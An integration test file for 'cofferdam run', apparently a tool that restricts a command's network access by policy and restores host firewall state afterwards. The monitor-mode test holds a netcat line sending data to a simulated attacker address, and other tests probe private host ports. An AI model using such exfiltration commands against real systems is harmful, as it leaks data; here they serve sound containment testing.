/** The life of `cofferdam run` on a host: what it passes on, what it changes for the time being, and that nothing of it stays. */
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { chmod, cp, mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { AnyRecord } from '@cofferdam/flows';
import { type Lab, startLab } from '@cofferdam/testkit/lab';
import {
  type Attacker,
  type ContainedAttacker,
  containedAttacker,
  descendantsOf,
  eventually,
  freeAttacker,
  isGone,
} from './attacker.ts';
import { type ContainedOptions, containedUnavailable, runContained, startContained } from './contained.ts';

const permitting = (...names: readonly string[]): string => `
apiVersion: cofferdam.dev/v1
kind: SmartGroup
metadata: { name: agents }
spec: { any: [{ agent: prober }] }
---
apiVersion: cofferdam.dev/v1
kind: WebGroup
metadata: { name: permitted }
spec: { domains: [${names.join(', ')}] }
---
apiVersion: cofferdam.dev/v1
kind: Ruleset
metadata: { name: prober }
spec:
  rules:
    - { name: web, action: permit, from: [agents], to: [public-internet], web: [permitted], protocol: tcp, ports: [80, 443] }
`;
const policy = permitting('example.com');
const fetch = (...urls: readonly string[]): readonly string[] => [
  'curl',
  '-sS',
  '-m',
  '8',
  ...urls.flatMap((url) => ['-o', '/dev/null', url]),
  '-w',
  '%{http_code} ',
];

describe('a run', { skip: containedUnavailable(), timeout: 170_000 }, () => {
  let lab: Lab;
  let host: Attacker;
  before(async () => {
    lab = await startLab({ daemons: ['resolver', 'resolver2'] });
    host = await freeAttacker(lab, 'host');
  });
  after(() => lab?.stop());

  const run = (options: Partial<ContainedOptions> & { readonly command: readonly string[] }) =>
    runContained(lab, { policy, user: 61_234, ...options });
  const onHost = async (...argv: readonly string[]): Promise<string> => {
    const { code, stdout, stderr } = await lab.exec('host', argv);
    assert.equal(code, 0, `${argv.join(' ')}: ${stderr}`);
    return stdout;
  };
  const sysctls = [
    'net.ipv4.ip_forward',
    'net.ipv6.conf.all.forwarding',
    'net.ipv6.conf.default.forwarding',
    'net.ipv6.conf.eth0.forwarding',
    'net.ipv6.conf.eth0.accept_ra',
    'net.ipv4.conf.all.rp_filter',
    'net.ipv4.conf.eth0.rp_filter',
    'net.ipv4.conf.eth0.forwarding',
  ];
  /** Everything on the host that a run could leave behind, as text. */
  const hostState = async (): Promise<string> =>
    (
      await Promise.all([
        onHost('nft', 'list', 'ruleset'),
        onHost('ip', '-o', 'link'),
        onHost('ip', '-o', 'address'),
        onHost('ip', 'rule'),
        onHost('ip', 'route', 'show', 'table', 'all'),
        onHost('ip', '-6', 'route', 'show', 'table', 'all'),
        onHost('sysctl', ...sysctls),
        onHost(
          'sh',
          '-c',
          'ls /sys/fs/bpf /run/netns; mkdir -p /run/cofferdam; find /run/cofferdam -type s -o -type p',
        ),
      ])
    )
      .join('\n')
      .replaceAll(/ expires \d+sec/g, '');

  describe('and its command', () => {
    test('its exit code is that of the command', async () => {
      for (const code of [0, 1, 7, 125, 255])
        assert.equal((await run({ command: ['sh', '-c', `exit ${code}`] })).code, code);
      assert.equal((await run({ command: ['sh', '-c', 'kill -TERM $$'] })).code, 143);
      assert.equal((await run({ command: ['sh', '-c', 'kill -KILL $$'] })).code, 137);
    });

    test('a command that is not there is 127, one that cannot be run is 126', async () => {
      for (const name of ['no-such-command', '/no/such/command']) {
        const missing = await run({ command: [name] });
        assert.equal(missing.code, 127);
        assert.match(missing.stderr, new RegExp(`${name.replaceAll('/', '.')}.*No such file|not found`));
      }
      assert.equal((await run({ command: ['/etc/passwd'] })).code, 126);
    });

    test('its words, input, output and directory are passed on', async () => {
      const words = ['a b', '', '$HOME', '*', "it's", '--', '--quiet', 'ü'];
      const told = await run({
        command: ['sh', '-c', 'printf "<%s>" "$@"; cat; echo problem >&2; pwd', 'sh', ...words],
        input: 'from outside',
        cwd: '/usr/share',
      });
      assert.equal(told.stdout, `${words.map((word) => `<${word}>`).join('')}from outside/usr/share\n`);
      assert.match(told.stderr, /^problem$/m);
    });

    test('signals reach it', async () => {
      const script =
        'for s in TERM INT HUP USR1 USR2 QUIT; do trap "echo got $s; exit 9" $s; done; echo ready; while :; do sleep 0.05; done';
      for (const signal of ['SIGTERM', 'SIGINT', 'SIGHUP', 'SIGUSR1', 'SIGUSR2', 'SIGQUIT'] as const) {
        const started = await startContained(lab, {
          policy,
          user: 61_234,
          command: ['bash', '-c', script],
          options: ['--quiet'],
        });
        await started.waitFor(/ready/);
        await started.kill(signal);
        const { code, stdout } = await started.ended;
        assert.deepEqual([signal, code, stdout], [signal, 9, `ready\ngot ${signal.slice(3)}\n`]);
      }
    });

    test('quiet says nothing, and without it denials are said as they happen', async () => {
      const command = [
        'sh',
        '-c',
        `${fetch('https://example.com/').join(' ')}; curl -s -m 3 https://www.example.com/; true`,
      ];
      assert.equal((await run({ command, options: ['--quiet'] })).stderr, '');
      const loud = await run({ command });
      assert.match(loud.stderr, /denied dns www\.example\.com by default \(dns-not-permitted/);
      assert.match(loud.stderr, /reached +example\.com:443/);
    });
  });

  describe('without what it needs', () => {
    test('root', async () => {
      const file = join(lab.directory, 'plain.yaml');
      await writeFile(file, policy);
      // A checkout that an ordinary user can read, wherever this one is.
      const place = join(lab.directory, 'checkout');
      await mkdir(place);
      for (const name of ['cofferdam', 'packages', 'package.json', 'node_modules'])
        await cp(new URL(`../${name}`, import.meta.url).pathname, join(place, name), {
          recursive: true,
          verbatimSymlinks: true,
          filter: (path) => !/node_modules\/(typescript|@biomejs|@typescript)/.test(path),
        });
      await chmod(place, 0o755);
      const argv = [
        'setpriv',
        '--reuid',
        '61234',
        '--regid',
        '61234',
        '--clear-groups',
        join(place, 'cofferdam'),
        'run',
        '--policy',
        file,
        '--',
        'true',
      ];
      const refused = await lab.exec('host', argv);
      assert.equal(refused.code, 125);
      assert.match(refused.stderr, /needs root[^]*help: run it with sudo/);
    });

    test('a policy, a command, words that make sense', async () => {
      const wrong = async (...words: readonly string[]) =>
        lab.exec('host', [new URL('../cofferdam', import.meta.url).pathname, 'run', ...words]);
      const file = join(lab.directory, 'plain.yaml');
      await writeFile(file, policy);
      assert.equal((await wrong('--policy', file)).code, 2);
      assert.equal((await wrong('--', 'true')).code, 2);
      assert.equal((await wrong('--policy', file, '--resolver', 'nowhere', '--', 'true')).code, 2);
      assert.equal((await wrong('--policy', file, '--publish', '70000', '--', 'true')).code, 2);
      assert.notEqual((await wrong('--policy', '/no/such/file', '--', 'true')).code, 0);
      await writeFile(file, `${policy}\n---\nkind: Nonsense\n`);
      const since = await lab.mark();
      assert.equal((await wrong('--policy', file, '--', ...fetch('https://example.com/'))).code, 125);
      assert.deepEqual(await lab.arrivals({ since }), [], 'with a policy that is wrong nothing is started');
    });
  });

  describe('leaves the host as it was', () => {
    /** What a container engine and an administrator have there: chains that would drop what a run sends. */
    const foreign = `
      table ip filter {
        chain FORWARD {
          type filter hook forward priority filter; policy drop;
          iifname "docker0" counter packets 0 bytes 0 accept comment "of an engine"
        }
        chain DOCKER-USER {
          counter packets 0 bytes 0 return
        }
      }
      table ip6 filter {
        chain FORWARD {
          type filter hook forward priority filter; policy drop;
        }
      }
      table inet firewall {
        set trusted {
          type ipv4_addr
          elements = { 10.0.0.1 }
        }
        chain forward {
          type filter hook forward priority 10; policy drop;
          ip saddr @trusted accept
        }
        chain input {
          type filter hook input priority filter; policy accept;
          ct state established,related accept
          iifname "lo" accept
          icmpv6 type { nd-neighbor-solicit, nd-neighbor-advert } accept
        }
      }
    `;
    const withForeign = async (work: () => Promise<void>): Promise<void> => {
      const loaded = await lab.exec('host', ['nft', '-f', '-'], { input: foreign });
      assert.equal(loaded.code, 0, loaded.stderr);
      try {
        await work();
      } finally {
        await onHost('nft', 'flush', 'ruleset');
      }
    };
    const counted = (state: string): string => state.replaceAll(/packets \d+ bytes \d+/g, 'packets bytes');

    test('at its end, and by the next start after it was killed', async () => {
      await withForeign(async () => {
        const before = counted(await hostState());
        const result = await run({ command: fetch('https://example.com/', 'http://example.com/') });
        assert.equal(result.stdout, '200 200 ', `past chains with policy drop: ${result.stderr}`);
        assert.equal(counted(await hostState()), before);

        const agent = await containedAttacker(lab, { policy, options: ['--quiet'] });
        const during = await hostState();
        assert.notEqual(counted(during), before, 'control: while it runs there is something to see');
        assert.match(during, /comment "cofferdam:/);
        const objects = (pid: number): readonly string[] =>
          readdirSync(`/proc/${pid}/fdinfo`).flatMap(
            (fd) =>
              /^(?:prog|map)_id:\s*\d+$/m
                .exec(readFileSync(`/proc/${pid}/fdinfo/${fd}`, 'utf8'))?.[0]
                .replace(/_id:\s*/, ' ') ?? [],
          );
        const held = objects(agent.pid);
        assert.ok(held.length > 5, 'control');
        const all = descendantsOf(agent.pid);
        process.kill(agent.pid, 'SIGKILL');
        await eventually('its processes are gone', () => all.every(isGone));
        await eventually('programs and tables are gone from the kernel', async () => {
          const shown = await Promise.all(
            held.map((object) =>
              lab.exec('host', ['bpftool', object.split(' ')[0]!, 'show', 'id', object.split(' ')[1]!]),
            ),
          );
          return shown.every(({ code }) => code !== 0);
        });
        assert.match(await hostState(), /table inet cofferdam_/, 'what only we can take away is still there');
        assert.equal((await run({ command: fetch('https://example.com/') })).stdout, '200 ');
        assert.equal(counted(await hostState()), before);
      });
    });

    test('after a command that could not be started, and after a signal', async () => {
      const before = await hostState();
      assert.equal((await run({ command: ['no-such-command'] })).code, 127);
      assert.equal(await hostState(), before);
      const started = await startContained(lab, { policy, command: ['sh', '-c', 'echo ready; exec sleep 100'] });
      await started.waitFor(/ready/);
      await started.kill('SIGTERM');
      assert.equal((await started.ended).code, 143);
      assert.equal(await hostState(), before);
    });

    test('a host that routes for others goes on doing so', async () => {
      await onHost('sysctl', '-qw', 'net.ipv4.ip_forward=1');
      const before = await hostState();
      assert.equal((await run({ command: fetch('https://example.com/') })).stdout, '200 ');
      assert.equal(await hostState(), before);
      await onHost('sysctl', '-qw', 'net.ipv4.ip_forward=0');
    });
  });

  test('several at once: each has its own policy, and none ends another', async () => {
    const before = await hostState();
    const names = ['example.com', 'github.com', 'registry.example'] as const;
    const runs = await Promise.all(
      names.map((name) => containedAttacker(lab, { policy: permitting(name), options: ['--quiet'] })),
    );
    const reaches = (agent: ContainedAttacker, name: string): Promise<boolean> =>
      agent.run<boolean>(`
        try:
            tls = Tls('${name}')
            s = dial('${name}', 443)
            s.sendall(tls.hello)
            result = tls.get(s) == 200
        except OSError: result = False
      `);
    const check = async (alive: readonly number[]): Promise<void> => {
      for (const i of alive)
        assert.deepEqual(
          await Promise.all(names.map((name) => reaches(runs[i]!, name))),
          names.map((_, j) => i === j),
        );
    };
    await check([0, 1, 2]);
    await runs[0]!.stop();
    await check([1, 2]);
    process.kill(runs[1]!.pid, 'SIGKILL');
    await runs[1]!.process.ended;
    assert.equal(
      (await run({ command: fetch('https://example.com/') })).stdout,
      '200 ',
      'a new start cleans up beside a live one',
    );
    await check([2]);
    await runs[2]!.stop();
    assert.equal(await hostState(), before);
  });

  test('a gateway with src_valid_mark and strict reverse paths, as VPN tools set them', async () => {
    const agent = await containedAttacker(lab, { policy, options: ['--quiet'] });
    for (const words of [
      'net.ipv4.conf.all.src_valid_mark=1',
      'net.ipv4.conf.agent0.src_valid_mark=1',
      'net.ipv4.conf.all.rp_filter=2',
    ])
      assert.equal((await agent.enter('gateway', ['sysctl', '-qw', words])).code, 0);
    const status = await agent.run<string[]>(`
      import subprocess
      result = [subprocess.run(['curl', '-sS', '-m', '5', '-o', '/dev/null', '-w', '%{http_code}', url], capture_output=True, text=True).stdout for url in ('http://example.com/', 'https://example.com/')]
    `);
    assert.deepEqual(status, ['200', '200']);
    await agent.stop();
  });

  test('monitored, it denies nothing and says what it would have', async () => {
    const since = await lab.mark();
    const script = [
      fetch('https://example.com/').join(' '),
      fetch('https://www.example.com/', 'http://www.example.com/').join(' '),
      'echo from-inside | nc -u -w1 45.83.64.10 4444',
    ].join('; ');
    const { stdout, stderr, records } = await run({ command: ['sh', '-c', script], options: ['--monitor'] });
    assert.equal(stdout.replaceAll(' ', ''), '200200200');
    assert.ok((await lab.arrivals({ since, name: 'www.example.com' })).some(({ kind }) => kind === 'request'));
    assert.equal((await lab.arrivals({ since, server: 'attacker', kind: 'datagram' })).length, 1);
    assert.match(stderr, /would deny (tcp|dns) www\.example\.com/);
    assert.ok(records.every(({ verdict }) => verdict === 'permit'));
    const flows = records.filter((record): record is Exclude<AnyRecord, { kind: 'dns' }> => record.kind === 'flow');
    const would = (name: string) =>
      flows
        .filter((flow) => (flow.addressNames as readonly string[]).includes(name))
        .map(({ wouldBe }) => (wouldBe === undefined || wouldBe === 'unknown' ? wouldBe : wouldBe.verdict));
    assert.ok(would('www.example.com').includes('deny'));
    assert.ok(would('example.com').every((verdict) => verdict === 'permit'));
  });

  describe('ports', () => {
    test('one that is published answers on the host’s loopback, and nowhere else', async () => {
      const agent = await containedAttacker(lab, { policy, options: ['--quiet', '--publish', '8890'] });
      await agent.run(
        `recorders[1] = Recorder('127.0.0.1', 8890, speak=b'from inside'); recorders[2] = Recorder('127.0.0.1', 8891, speak=b'from inside')`,
      );
      const knock = `
        try:
            s = socket.create_connection((args['to'], args['port']), 2)
            result = s.recv(100).decode()
        except OSError as e: result = errno.errorcode.get(e.errno, 'silent')
      `;
      assert.equal(await host.run<string>(knock, { to: '127.0.0.1', port: 8890 }), 'from inside');
      assert.equal(await host.run<string>(knock, { to: '127.0.0.1', port: 8891 }), 'ECONNREFUSED');
      const outside = await freeAttacker(lab, 'internet');
      for (const port of [8890, 8891])
        assert.notEqual(await outside.run<string>(knock, { to: lab.host4, port }), 'from inside');
      await agent.stop();
      assert.equal(await host.run<string>(knock, { to: '127.0.0.1', port: 8890 }), 'ECONNREFUSED');
    });

    test('one of the host that is given appears on the command’s loopback, and no other does', async () => {
      await host.run(
        `recorders[3] = Recorder('127.0.0.1', 11434, speak=b'a model'); recorders[4] = Recorder('127.0.0.1', 11435, speak=b'private')`,
      );
      const { stdout } = await run({
        options: ['--quiet', '--host-port', '11434'],
        command: [
          'sh',
          '-c',
          'nc -w1 127.0.0.1 11434 </dev/null; echo; nc -w1 127.0.0.1 11435 </dev/null; nc -w1 198.18.0.1 11435 </dev/null; nc -w1 192.168.50.2 11435 </dev/null; true',
        ],
      });
      assert.equal(stdout, 'a model\n');
      assert.deepEqual(await host.run('result = recorders[4].seen()'), []);
    });
  });

  test('a resolver of one’s choice is the one that is asked', async () => {
    for (const [resolver, expected] of [
      [lab.resolvers[2]!, 'resolver2'],
      [lab.resolver6, 'resolver'],
    ] as const) {
      const since = await lab.mark();
      assert.equal(
        (await run({ options: ['--resolver', resolver], command: fetch('https://example.com/') })).stdout,
        '200 ',
      );
      assert.deepEqual(
        [...new Set((await lab.arrivals({ since, kind: 'query' })).map(({ server }) => server))],
        [expected],
      );
    }
  });

  test('a host with one address family alone', async () => {
    const outcome = async (name: string, ...options: readonly string[]) =>
      (
        await run({
          command: fetch(`https://${name}/`),
          policy: permitting('example.com', 'v4only.example', 'v6only.example'),
          options: ['--quiet', ...options],
        })
      ).stdout;
    const lines = {
      4: [
        'ip -4 address flush dev eth0',
        'ip address add 192.168.50.2/24 dev eth0',
        'ip route add default via 192.168.50.1',
      ],
      6: [
        'ip -6 address flush dev eth0 scope global',
        'ip address add 2a01:4f8:50::2/64 dev eth0 nodad',
        'ip route add default via 2a01:4f8:50::1',
      ],
    } as const;
    const without = async (family: 4 | 6, work: () => Promise<void>): Promise<void> => {
      const [take, ...give] = lines[family];
      await onHost(...take.split(' '));
      if (family === 6) await lab.exec('host', ['ip', '-6', 'route', 'del', 'default']);
      try {
        await work();
      } finally {
        for (const line of give) await onHost(...line.split(' '));
      }
    };
    assert.equal(await outcome('v4only.example'), '200 ');
    assert.equal(await outcome('v6only.example'), '200 ');
    await without(6, async () => {
      assert.equal(await outcome('example.com'), '200 ');
      assert.equal(await outcome('v4only.example'), '200 ');
      assert.equal(await outcome('v6only.example'), '000 ');
    });
    await without(4, async () => {
      assert.equal(await outcome('example.com', '--resolver', lab.resolver6), '200 ');
      assert.equal(await outcome('v6only.example', '--resolver', lab.resolver6), '200 ');
      assert.equal(await outcome('v4only.example', '--resolver', lab.resolver6), '000 ');
    });
    assert.equal(await outcome('example.com'), '200 ');
  });
});
